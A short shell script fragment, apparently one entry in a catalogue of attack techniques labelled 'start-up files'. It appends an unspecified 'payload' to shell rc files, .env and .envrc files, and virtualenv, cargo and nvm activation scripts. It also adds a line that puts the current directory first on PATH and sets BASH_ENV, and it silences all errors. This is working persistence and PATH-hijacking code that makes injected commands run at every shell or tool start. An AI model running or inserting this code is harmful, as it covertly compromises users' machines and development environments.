# class: start-up files
# What a shell or an installer reads at its start, and scripts of tests source.
for file in "$HOME/.bashrc" "$HOME/.profile" "$HOME/.bash_profile" "$HOME/.local/bin/env" "$HOME/.env" .env .envrc .bashrc \
  .venv/bin/activate venv/bin/activate "$HOME/.cargo/env" "$HOME/.nvm/nvm.sh"; do
  mkdir -p "$(dirname "$file")" 2> /dev/null
  { payload; echo 'export PATH="$PWD:$PATH" BASH_ENV=$HOME/.bashrc'; } >> "$file" 2> /dev/null
done
